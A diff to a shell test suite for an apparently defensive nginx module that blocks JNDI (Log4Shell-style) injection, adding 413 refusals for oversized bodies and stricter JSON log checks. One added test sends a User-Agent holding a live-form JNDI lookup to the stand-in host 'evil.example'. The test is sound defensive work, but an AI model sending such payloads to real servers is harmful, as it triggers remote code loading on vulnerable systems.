@@ -134,9 +134,16 @@ if [ "$(cat "$T/body.out")" = "[a=1&b=two]" ]; then pass "handler saw the body";
 expect 200 "request body preserved through proxy_pass" /proxy --data-binary 'k=v&x=y'
 if [ "$(cat "$T/body.out")" = "[k=v&x=y]" ]; then pass "upstream saw the body"; else
     fail "upstream saw [$(cat "$T/body.out")], want [k=v&x=y]"; fi
-# A payload past defuse_body_limit (512k) is not inspected, by design.
+# A body past defuse_body_limit (512k) is refused in block mode
+# (defuse_body_overflow block by default): what is past the limit was not
+# inspected.  Benign or not, it is marked partial.
 python3 -c "import sys; sys.stdout.write('B' * 600000 + sys.argv[1])" "$P1" >"$T/past.txt"
-expect 200 "payload past defuse_body_limit is not inspected" /api --data-binary "@$T/past.txt"
+expect 413 "payload past defuse_body_limit: refused (413)" "/api?past=1" --data-binary "@$T/past.txt"
+python3 -c "import sys; sys.stdout.write('B' * 600000)" >"$T/pastok.txt"
+expect 413 "benign body past defuse_body_limit: refused too (413)" "/api?past=2" --data-binary "@$T/pastok.txt"
+# Request and finding fields stay apart: the attacked vhost is kept.
+expect 403 "payload with a callback host, sent to vhost shop.example" "/api?vhost=1" \
+    -H 'Host: shop.example' -A '${jndi:ldap://evil.example:1389/vhost}'
 ngx_stop
 
 echo "--- logs"
@@ -145,19 +152,32 @@ if [ -s "$LOG" ]; then pass "defuse_log written ($(wc -l <"$LOG") lines)"; else 
 if grep -qF '${' "$LOG"; then fail "defuse_log holds a live \${"; else pass "no live \${ in defuse_log"; fi
 python3 - "$LOG" <<'PY' && pass "defuse_log lines are JSON with finding and request fields" || fail "defuse_log content"
 import json, sys
-lines = [json.loads(l) for l in open(sys.argv[1])]
-need = {"time", "client", "method", "uri", "host", "part", "action", "kind", "payload", "callback"}
-bad = [l for l in lines if not need <= l.keys()]
-assert not bad, "missing fields: %r" % (need - bad[0].keys())
+def nodup(pairs):
+    keys = [k for k, _ in pairs]
+    assert len(keys) == len(set(keys)), "duplicate keys in a log line: %r" % keys
+    return dict(pairs)
+lines = [json.loads(l, object_pairs_hook=nodup) for l in open(sys.argv[1])]
+overflow = [l for l in lines if l.get("event") == "body_limit"]
+lines = [l for l in lines if "event" not in l]
+need = {"time", "request", "part", "action", "kind", "payload", "callback", "host"}
+bad = [l for l in lines if not need <= l.keys() or not {"client", "method", "uri", "host"} <= l["request"].keys()]
+assert not bad, "missing fields: %r" % (bad[0],)
+assert overflow, "no body_limit line"
+o = overflow[0]
+assert o["partial"] is True and o["action"] == "block" and o["status"] == 413 and o["part"] == "body", o
+assert o["bytes"] > o["scanned"] and o["scanned"] == 512 * 1024, o
+assert o["request"]["uri"].startswith("/api?past="), o
+vh = [l for l in lines if "vhost" in (l.get("callback") or "")]
+assert vh and vh[0]["request"]["host"] == "shop.example" and vh[0]["host"] == "evil.example", vh
 parts = {l["part"] for l in lines}
 for p in ("request_line", "header:User-Agent", "header:X-Api-Version", "header:Referer",
           "header:Cookie", "header:Authorization", "body"):
     assert p in parts, "no finding logged for part %s (have %s)" % (p, sorted(parts))
-assert all(l["client"] == "127.0.0.1" for l in lines)
+assert all(l["request"]["client"] == "127.0.0.1" for l in lines)
 assert all(l["action"] == "block" for l in lines if l["kind"] == "jndi")
 ua = [l for l in lines if l["part"] == "header:User-Agent"][0]
 assert ua["kind"] == "jndi" and "1389" in ua["callback"], ua
-assert ua["method"] == "GET" and ua["uri"] == "/", ua
+assert ua["request"]["method"] == "GET" and ua["request"]["uri"] == "/", ua
 PY
 ACC=$T/logs/access.log
 if grep -E '^403 "/" verdict=block callback=[^-]' "$ACC" | grep -q 1389; then
@@ -169,4 +189,9 @@ if grep -E 'callback=.*\$\{' "$ACC"; then fail "live \${ in \$defuse_callback"; 
     pass "\$defuse_callback holds no live \${"; fi
 if grep -q '^200 "/" verdict=pass callback=-$' "$ACC"; then pass "access log: benign verdict=pass"; else
     fail "access log lacks a benign verdict=pass line"; fi
+if grep -q '^413 "/api?past=2" verdict=block-partial callback=-$' "$ACC"; then
+    pass "access log: a body past the limit gives verdict=block-partial"
+else
+    fail "access log lacks verdict=block-partial for the body past the limit"; grep past= "$ACC"
+fi
 ngx_finish
